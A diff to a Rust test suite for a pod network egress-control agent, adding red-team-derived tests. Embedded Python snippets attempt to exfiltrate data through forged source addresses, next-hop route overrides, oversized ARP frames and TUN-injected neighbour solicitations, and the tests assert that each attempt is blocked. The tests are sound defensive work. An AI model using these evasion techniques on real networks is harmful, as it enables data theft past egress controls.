@@ -219,7 +219,10 @@ fn af_packet_frames_never_leave_the_pod() {
         lines
             .iter()
             .all(|l| l.contains("\"layer\":\"interface_packet\"")
-                && l.contains("\"reason\":\"packet_check\"")),
+                // Refused as sent to a host that is not where the address is
+                // reached, or as an unregistered destination.
+                && (l.contains("\"reason\":\"packet_check\"")
+                    || l.contains("\"reason\":\"spoofed\""))),
         "{lines:?}"
     );
     assert_eq!(
@@ -573,7 +576,18 @@ fn a_rewritten_destination_or_a_tunnel_in_the_pod_reaches_nothing() {
     ]);
     nsenter(&["ip", "addr", "add", "10.99.0.1/24", "dev", "vx0"]);
     nsenter(&["ip", "link", "set", "vx0", "up"]);
-    nsenter(&["ip", "route", "add", "198.18.0.11/32", "dev", "vx0"]);
+    // The inner packet carries the pod's own address: the socket line lets it
+    // through to the allowed ext1; only the interface sees the outer packet.
+    nsenter(&[
+        "ip",
+        "route",
+        "add",
+        "198.18.0.11/32",
+        "dev",
+        "vx0",
+        "src",
+        "198.18.0.2",
+    ]);
     nsenter(&[
         "ip",
         "neigh",
@@ -676,4 +690,179 @@ fn an_mptcp_subflow_the_kernel_opens_is_still_the_pods() {
         "{lines:?}"
     );
     assert_eq!(syns.syns(), 0, "no SYN reached the announced address");
+}
+
+/// Runs a Python snippet inside the pod as `who`; its output.
+fn python(w: &World, who: Privilege, code: &str) -> String {
+    let out = command_as(&w.pod(), who, "/usr/bin/python3")
+        .args(["-c", code])
+        .output()
+        .unwrap();
+    format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    )
+}
+
+/// Found by an independent red-team run: a source address that is not the
+/// pod's (IPV6_FREEBIND / IP_TRANSPARENT, no privilege beyond a default
+/// container's) would have an allowed server — or the agent's DNS proxy — answer
+/// to an unregistered host. Class: address forms.
+#[test]
+fn a_forged_source_address_never_leaves() {
+    let w = World::new(2);
+    w.write_se("ext1.yaml", ALLOWED);
+    let udp1 = UdpServer::start(w.net.ext(1), sa("[::]:9999"), "ext1");
+    // Anything ext2 receives that ext1 (the reflector) or the pod sent.
+    let c2 = PacketCounter::with_sources(
+        w.net.ext(2),
+        "eth0",
+        &[
+            ip("198.18.0.11"),
+            ip("2001:db8::11"),
+            ip(POD_V4),
+            ip(POD_V6),
+        ],
+    );
+    let agent = w.start_agent("REGISTRY_ONLY", POD);
+    let out = python(
+        &w,
+        Privilege::ContainerDefault,
+        "import socket\n\
+         for fam, opt, own, ext1 in ((socket.AF_INET6, (socket.IPPROTO_IPV6, 78), '2001:db8::12', '2001:db8::11'),\n\
+                                     (socket.AF_INET, (socket.IPPROTO_IP, 19), '198.18.0.12', '198.18.0.11')):\n\
+         \x20 s = socket.socket(fam, socket.SOCK_DGRAM)\n\
+         \x20 s.setsockopt(opt[0], opt[1], 1)\n\
+         \x20 s.bind((own, 5555))\n\
+         \x20 try:\n\
+         \x20   s.sendto(b'exfiltrated', (ext1, 9999)); print('sent')\n\
+         \x20 except OSError as e: print('refused', e.errno)\n",
+    );
+    assert_eq!(out.matches("refused 1").count(), 2, "{out}");
+    assert_eq!(udp1.hit_count(), 0, "ext1 got no datagram to answer");
+    assert_eq!(c2.packets(), 0, "ext2 got nothing");
+    let lines = wait_lines(&agent, &["\"reason\":\"spoofed\""], 2);
+    assert_eq!(lines.len(), 2, "{lines:?}");
+    assert!(
+        lines
+            .iter()
+            .all(|l| l.contains("\"layer\":\"socket_packet\""))
+    );
+}
+
+/// Found by an independent red-team run: root in the pod routes an allowed
+/// address via another host of the segment; the IP destination is allowed, the
+/// frame goes elsewhere. Class: first hop ≠ destination.
+#[test]
+fn a_next_hop_override_reaches_nothing() {
+    let w = World::new(2);
+    w.write_se("ext1.yaml", ALLOWED);
+    let (c1, c2) = (counter(&w, 1), counter(&w, 2));
+    let udp2 = UdpServer::start(w.net.ext(2), sa("[::]:9999"), "ext2");
+    let agent = w.start_agent("REGISTRY_ONLY", POD);
+    w.net.pod().ip(&[
+        "route",
+        "add",
+        "198.18.0.11/32",
+        "via",
+        "198.18.0.12",
+        "dev",
+        "eth0",
+    ]);
+    w.net.pod().ip(&[
+        "-6",
+        "route",
+        "add",
+        "2001:db8::11/128",
+        "via",
+        "2001:db8::12",
+        "dev",
+        "eth0",
+    ]);
+    for dst in ["198.18.0.11", "2001:db8::11"] {
+        let a = attack(&w.pod(), Privilege::ContainerDefault, &["udp", dst, "9999"]);
+        assert!(a.ok, "the send itself is allowed: {a:?}");
+    }
+    let lines = wait_lines(
+        &agent,
+        &["\"reason\":\"spoofed\"", "\"layer\":\"interface_packet\""],
+        2,
+    );
+    assert!(lines.len() >= 2, "{lines:?}");
+    assert_eq!(udp2.hit_count(), 0);
+    assert_eq!(
+        (c1.packets(), c2.packets()),
+        (0, 0),
+        "neither host got a datagram"
+    );
+    // Without the override the allowed destination is reached.
+    w.net.pod().ip(&["route", "del", "198.18.0.11/32"]);
+    assert_counter_works(&w, &c1);
+}
+
+/// Found by an independent red-team run: data in link-local kinds of frames —
+/// an ARP-ethertype frame of a packet socket, a neighbour solicitation with
+/// large options (injected through a TUN device and forwarded by the pod) — went
+/// to any host of the segment. Class: sockets the hooks never see.
+#[test]
+fn arp_and_neighbour_discovery_carry_no_data() {
+    let w = World::new(2);
+    w.write_se("ext1.yaml", ALLOWED);
+    let big_arp = NftCounter::matching(w.net.ext(2), "eth0", "ether type arp meta length > 100");
+    let big_nd = NftCounter::matching(
+        w.net.ext(2),
+        "eth0",
+        "meta l4proto ipv6-icmp meta length > 200",
+    );
+    let agent = w.start_agent("REGISTRY_ONLY", POD);
+    let mac2 = mac_of(w.net.ext(2), "eth0");
+    let mac = mac2.replace(':', "");
+    let out = python(
+        &w,
+        Privilege::ContainerDefault,
+        &format!(
+            "import socket\n\
+             s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n\
+             s.bind(('eth0', 0))\n\
+             arp = bytes.fromhex('0001080006040001') + b'\\0'*6 + bytes([198,18,0,2]) + b'\\0'*6 + bytes([198,18,0,12])\n\
+             try:\n\
+             \x20 s.send(bytes.fromhex('{mac}') + s.getsockname()[4] + b'\\x08\\x06' + arp + b'exfiltrated'*90); print('sent')\n\
+             except OSError as e: print('refused', e.errno)\n"
+        ),
+    );
+    assert!(out.contains("sent") || out.contains("refused"), "{out}");
+    // Root in the pod: a TUN device, forwarding on, a crafted neighbour
+    // solicitation with 900 bytes of options to ext2's global address.
+    let ns = w.net.pod();
+    let tun = "import fcntl, os, struct, socket, time\n\
+               fd = os.open('/dev/net/tun', os.O_RDWR)\n\
+               fcntl.ioctl(fd, 0x400454ca, struct.pack('16sH', b'egtun0', 0x0001 | 0x1000))\n\
+               os.system('ip link set egtun0 up; sysctl -qw net.ipv6.conf.all.forwarding=1')\n\
+               time.sleep(0.2)\n\
+               src = socket.inet_pton(socket.AF_INET6, '2001:db8::2')\n\
+               dst = socket.inet_pton(socket.AF_INET6, '2001:db8::12')\n\
+               body = bytes([135, 0, 0, 0, 0, 0, 0, 0]) + dst + b'exfiltrated' * 80\n\
+               pkt = bytes([0x60, 0, 0, 0]) + struct.pack('!HBB', len(body), 58, 255) + src + dst + body\n\
+               for _ in range(5):\n\
+               \x20 os.write(fd, pkt)\n\
+               time.sleep(0.3)\n\
+               print('injected')\n";
+    let out = python(&w, Privilege::Root, tun);
+    assert!(out.contains("injected"), "{out}");
+    let lines = wait_lines(
+        &agent,
+        &["\"layer\":\"interface_packet\"", "\"reason\":\"spoofed\""],
+        1,
+    );
+    assert!(
+        !lines.is_empty(),
+        "the neighbour solicitation was refused and logged"
+    );
+    assert_eq!(
+        (big_arp.count(), big_nd.count()),
+        (0, 0),
+        "ext2 got no data frame"
+    );
+    let _ = ns;
 }
